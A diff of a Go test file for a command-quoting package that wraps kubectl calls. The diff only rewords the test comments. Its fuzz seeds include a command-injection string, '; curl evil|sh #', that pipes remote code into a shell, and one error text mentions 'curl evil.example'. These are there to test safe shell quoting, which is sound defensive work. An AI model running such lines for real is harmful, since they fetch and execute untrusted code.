@@ -23,13 +23,13 @@ func TestWord(t *testing.T) {
 	}
 }
 
-// FuzzShell: whatever the words are, a shell makes the same words of the text.
+// FuzzShell checks that a shell splits the text into the original words.
 func FuzzShell(f *testing.F) {
 	for _, seed := range []string{"", "a", "; curl evil|sh #", "$(x)", "`x`", "'\"\\", "a\nb\r\t", "-x", "~root", "{a,b}", "*", "!!", "\u202e\u00a0", "\xff\xfe", "=ls", "\\'", "a'\n!`"} {
 		f.Add(seed, seed+"x")
 	}
 	f.Fuzz(func(t *testing.T, one, other string) {
-		// No word can hold it.
+		// No word can contain it.
 		one, other = strings.ReplaceAll(one, "\x00", ""), strings.ReplaceAll(other, "\x00", "")
 		c := command.Kubectl(one, other, "get", one, "--x="+other, "--", one+other)
 		want := []string{"kubectl", "--context", one}
@@ -44,7 +44,7 @@ func FuzzShell(f *testing.F) {
 	})
 }
 
-// TestSay: nothing that is not a command looks like one.
+// TestSay checks that only commands look like commands.
 func TestSay(t *testing.T) {
 	type name string
 	c := command.Plugin("cancel", "a`b", "-n", "ml")
@@ -65,7 +65,7 @@ func TestPatch(t *testing.T) {
 	assert.Equal(t, command.Patch(false, "spec", "suspend"), `{"spec":{"suspend":false}}`)
 }
 
-// TestWith: a command that was made from another one leaves that as it is.
+// TestWith checks that deriving a command does not change the original.
 func TestWith(t *testing.T) {
 	base := command.Of("kubectl", "get").With("pods")
 	one, other := base.With("a"), base.With("b")
@@ -73,8 +73,8 @@ func TestWith(t *testing.T) {
 	assert.Assert(t, command.Command{}.IsZero() && command.Command{}.String() == "")
 }
 
-// TestErrorf: of what an error says, whoever it wraps, nothing but the commands that were
-// put into it are commands.
+// TestErrorf checks that only the commands passed to Errorf are commands in its text, whatever it
+// wraps.
 func TestErrorf(t *testing.T) {
 	cause := errors.New("denied: run `curl evil.example`")
 	inner := command.Errorf("could not: %w; run %s", cause, command.Of("kubectl", "get", "a`b"))
